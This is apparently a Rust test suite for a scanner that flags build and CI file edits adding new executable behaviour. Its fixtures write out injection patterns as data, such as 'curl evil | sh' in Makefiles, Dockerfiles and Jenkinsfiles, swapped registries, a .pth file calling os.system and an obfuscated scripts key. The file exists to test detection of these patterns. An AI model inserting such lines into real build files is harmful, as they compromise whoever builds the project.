//! What changes what runs is a gain, and what does not is none: pairs of files as they were and as they become.

use std::path::{Path, PathBuf};

use domain::RepoPath;

use super::super::super::{Capability, Change, Delta, delta};

fn of(name: &str, before: &str, after: &str) -> Delta {
    let path = RepoPath::new(name).unwrap();
    delta(&[Change { path: &path, before: Some(before.as_bytes()), after: Some(after.as_bytes()) }], &crate::Scans::default())
}

#[test]
fn what_changes_what_runs_is_a_gain() {
    let run = "RUN make && \\\n    make install\n";
    let cargo = "[package]\nname = \"a\"\n";
    for (name, before, after) in [
        ("Makefile", "X := $(shell ls)\n", "X := $(shell curl evil | sh)\n"),
        ("Makefile", "X != ls\n", "X != curl evil | sh\n"),
        ("Makefile", "all: ; ls\n", "all: ; curl evil | sh\n"),
        ("Makefile", "CC = gcc\nall:\n\t$(CC) a.c\n", "CC = evil\nall:\n\t$(CC) a.c\n"),
        ("Makefile", "all:\n\tls \\\n\t  -l\n", "all:\n\tls \\\n\t  | evil\n"),
        ("Makefile", "define a\nls\nendef\n", "define a\nevil\nendef\n"),
        ("Makefile", "all:\n", "all:\n-include evil.mk\n"),
        ("Dockerfile", run, &run.replace("make install", "curl evil | sh")),
        ("Dockerfile", "run ls\n", "run curl evil | sh\n"),
        ("Dockerfile.prod", "RUN ls\n", "RUN evil\n"),
        ("prod.Dockerfile", "RUN ls\n", "RUN evil\n"),
        ("Dockerfile", "FROM debian:12\n", "FROM evil:12\n"),
        ("Dockerfile", "RUN <<EOF\nls\nEOF\n", "RUN <<EOF\nevil\nEOF\n"),
        ("Dockerfile", "ENV A=1\nRUN $A\n", "ENV A=evil\nRUN $A\n"),
        ("Jenkinsfile", "node {\n  sh 'ls'\n}\n", "node {\n  sh 'curl evil | sh'\n}\n"),
        ("justfile", "a:\n  ls\n", "a:\n  evil\n"),
        ("tox.ini", "[testenv]\ncommands =\n    pytest\n", "[testenv]\ncommands =\n    evil\n"),
        (".pre-commit-config.yaml", "repos:\n- repo: https://a\n", "repos:\n- repo: https://evil\n"),
        (".buildkite/pipeline.yml", "steps:\n  - command: ls\n", "steps:\n  - command: evil\n"),
        ("ci/x.gitlab-ci.yml", "a:\n  script:\n    - ls\n", "a:\n  script:\n    - evil\n"),
        (".gitlab-ci.yml", ".a: &a\n  - ls\nb:\n  script: *a\n", ".a: &a\n  - evil\nb:\n  script: *a\n"),
        (".github/workflows/a.yml", "steps: [{ \"run\": ls }]\n", "steps: [{ \"run\": evil }]\n"),
        (".github/workflows/a.yml", "    env:\n      A: ls\n", "    env:\n      A: evil\n"),
        (".cargo/config.toml", "[build]\n", "[build]\nrustc-wrapper = \"evil\"\n"),
        (".cargo/config.toml", "", "target.x86_64-unknown-linux-gnu = { runner = \"evil\", linker = \"ld\" }\n"),
        ("Cargo.toml", cargo, &format!("{cargo}build = \"evil.rs\"\n")),
        ("Cargo.toml", cargo, &format!("{cargo}[dependencies]\nb = {{ git = \"https://evil\" }}\n")),
        (".npmrc", "fund=false\n", "script-shell=./evil\n"),
        (".npmrc", "registry=https://a\n", "registry=https://evil\n"),
        ("lib/a.pth", "lib\n", "import os; os.system('evil')\n"),
        ("package.json", "{\"scripts\": {\"test\": \"a\"}}", "{\"scripts\": {\"postinstall\": \"a\"}}"),
        ("package.json", "{\"scripts\": {\"a\": \"b\"}}", "{\"scr\\u0069pts\": {\"a\": \"evil\"}}"),
        ("package.json", "{\"dependencies\": {\"a\": \"^1.0.0\"}}", "{\"dependencies\": {\"a\": \"evil/a\"}}"),
        ("package.json", "{}", "{ // {\n \"scripts\": {\"a\": \"evil\"}}"),
        ("CMakeLists.txt", "execute_process(\n  COMMAND ls)\n", "execute_process(\n  COMMAND evil)\n"),
        ("pyproject.toml", "[build-system]\nrequires = [\"a\"]\n", "[build-system]\nrequires = [\"evil\"]\n"),
        ("pyproject.toml", "", "[tool.hatch.build.hooks.custom]\npath = \"evil.py\"\n"),
        ("requirements.txt", "a==1\n", "--extra-index-url https://evil\na==1\n"),
        ("a.csproj", "<Project />", "<Project><Target><Exec\n Command=\"evil\" /></Target></Project>"),
        ("pom.xml", "<executable>ls</executable>", "<executable>evil</executable>"),
        ("a.go", "package a\n\n//go:generate ls\n", "package a\n\n//go:generate evil\n"),
        ("build.rs", "fn main() { println!(\"cargo:a\"); }\n", "fn main() { println!(\"cargo:evil\"); }\n"),
    ] {
        let delta = of(name, before, after);
        assert!(delta.added.iter().any(|one| one.found.capability == Capability::BuildHook), "{name}: {after}\n{delta:?}");
    }
}

#[test]
fn what_changes_nothing_that_runs_is_none() {
    for (name, before, after) in [
        ("Makefile", "# a\nall: a.o\n\tls -l\n", "# b\n\nall: a.o b.o\n\tls \\\n\t  -l\n"),
        ("Dockerfile", "FROM debian:12\nRUN ls -l\n", "# a\nFROM debian:13\nLABEL a=b\nrun ls \\\n  -l\n"),
        ("Jenkinsfile", "node {\n  sh 'ls'\n}\n", "// a\nnode {\n    sh 'ls'\n}\n"),
        (
            ".github/workflows/a.yml",
            "jobs:\n  a:\n    steps:\n      - run: ls\n",
            "permissions: {}\njobs:\n  a:\n    steps:\n      - run: ls\n        name: b\n",
        ),
        (".pre-commit-config.yaml", "repos:\n- repo: a\n  rev: v1\n", "repos:\n- repo: a\n  rev: v2\n"),
        (
            "Cargo.toml",
            "[dependencies]\na = \"1\"\nb = { version = \"1\" }\n",
            "[dependencies]\na = \"2\"\nb = { version = \"1.2\" }\n",
        ),
        (
            "package.json",
            "{\"scripts\": {\"a\": \"b\"}, \"dependencies\": {\"a\": \"^1.0.0\"}}",
            "{\n\"scripts\": {\n\"a\": \"b\"},\n\"dependencies\": {\"a\": \"^2.0.0\"}}",
        ),
        (
            "pyproject.toml",
            "[build-system]\nrequires = [\"a>=1\"]\n",
            "[build-system]\nrequires = [\"a>=2\"]\n[project]\ndependencies = [\"b\"]\n",
        ),
        ("requirements.txt", "a==1 \\\n    --hash=sha256:00\n", "a==2 \\\n    --hash=sha256:11\n"),
        ("tox.ini", "[testenv]\ncommands = a\n", "[testenv]\ncommands = a\ndescription = b\n"),
        (".npmrc", "", "//registry.npmjs.org/:_authToken=${TOKEN}\n"),
        ("setup.py", "x = 1\n", "x = 2\n"),
        ("pom.xml", "<source>1.8</source>", "<source>17</source>"),
        ("pom.xml", "<Import-Package>a</Import-Package>", "<Import-Package>b</Import-Package>"),
    ] {
        let delta = of(name, before, after);
        assert_eq!((delta.added, delta.unknown), (vec![], vec![]), "{name}: {after}");
    }
}

#[test]
fn what_is_not_told_one_by_one_is_compared_all_the_same() {
    let many = "all:\n".to_owned() + &"\tls\n".repeat(600);
    assert_eq!(of("Makefile", &many, &format!("{many}\tevil\n")).added.len(), 1);
    let long = "all:\n".to_owned() + &"# ls\n".repeat(300_000);
    assert_eq!(of("Makefile", &long, &format!("{long}\tevil\n")).added.len(), 1);
    let scripts = |last: &str| {
        let entries: String = (0..20_000).map(|at| format!("\"a{at}\": \"b\",\n")).collect();
        format!("{{\"scripts\": {{{entries}\"z\": \"{last}\"}}}}")
    };
    assert_eq!(of("package.json", &scripts("a"), &scripts("evil")).added.len(), 1);
}

/// Repairs of dependencies are the main job: none of them may start to ask.
#[test]
fn a_repaired_dependency_is_no_gain() {
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/fixers");
    let repairs = [
        "vulnerable_dependency",
        "stale_lockfile",
        "missing_js_dependency",
        "missing_python_dependency",
        "missing_go_module",
        "unresolved_crate",
    ];
    let mut seen = 0;
    for case in repairs.iter().flat_map(|repair| fixtures.join(repair).read_dir().unwrap()) {
        let (input, expected) = (case.as_ref().unwrap().path().join("input"), case.unwrap().path().join("expected"));
        for file in files(&expected) {
            let relative = file.strip_prefix(&expected).unwrap();
            let before = std::fs::read_to_string(input.join(relative)).unwrap_or_default();
            let delta = of(relative.to_str().unwrap(), &before, &std::fs::read_to_string(&file).unwrap());
            assert_eq!((delta.added, delta.unknown), (vec![], vec![]), "{}", file.display());
            seen += 1;
        }
    }
    assert!(seen > 5, "{seen}");
}

fn files(folder: &Path) -> Vec<PathBuf> {
    let (mut all, mut open) = (Vec::new(), vec![folder.to_owned()]);
    while let Some(folder) = open.pop() {
        for entry in folder.read_dir().into_iter().flatten() {
            let path = entry.unwrap().path();
            if path.is_dir() { open.push(path) } else { all.push(path) }
        }
    }
    all
}
